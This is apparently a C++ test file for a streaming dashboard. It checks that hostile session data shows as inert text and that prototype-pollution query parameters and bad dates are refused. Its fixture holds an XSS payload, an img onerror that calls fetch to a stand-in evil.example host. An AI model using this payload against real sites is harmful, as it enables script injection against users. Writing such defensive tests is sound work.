// The dashboard with names, addresses and figures that nobody expects
#include "support/dashboard.h"
#include "support/player.h"

#include <CppUTest/TestHarness.h>

#include "json/json.h"

TEST_GROUP(AppOddData) {
  Stack& stack = Stack::running();
  const std::string hostile = "<img src=x onerror=fetch('//evil.example')>" + std::string(200, 'W');

  // A session of which each text is hostile.
  void send_session(const Account& account) {
    const Player player(stack, account.id);
    const auto payload = json::Json::object({{"player", hostile}, {"playerVersion", hostile}, {"title", hostile}});
    const auto error = json::Json::object({{"code", hostile}, {"message", hostile}, {"fatal", true}});
    const std::string events = "[" + Player::event("session_start", payload.text()) + "," +
                               Player::event("play_request") + "," + Player::event("error", error.text()) + "]";
    LONGS_EQUAL(204, player.send(stack.client(), player.envelope("evening", events)).status);
  }
};

TEST(AppOddData, is_text_and_stays_within_the_screen) {
  Dashboard app(stack);
  const auto account = app.sign_in();
  send_session(account);
  const auto body = json::Json::object({{"sourceUrl", "https://93.184.215.14/"}, {"name", hostile.substr(0, 120)}});
  LONGS_EQUAL(201, account.client.post("/api/v1/streams", body.text()).status);
  for (const char* screen : {"/app/streams", "/app/sessions", "/app/sessions/evening"}) {
    app.show(screen);
    app.wait_for_text("<img src=x");
    app.check_looks();
  }
}

TEST(AppOddData, of_an_address_is_refused_or_ignored) {
  Dashboard app(stack);
  send_session(app.sign_in());
  app.show("/app/sessions?__proto__=x&constructor=y&last=constructor");
  STRCMP_EQUAL("7 days", app.text(".segments [aria-current]").c_str());
  app.wait_for_text("“__proto__” in the address means nothing here, so it is left out.");
  app.show("/app/sessions?from=2026-02-31");
  app.wait_for_text("From must be a date such as 2026-01-31");
}
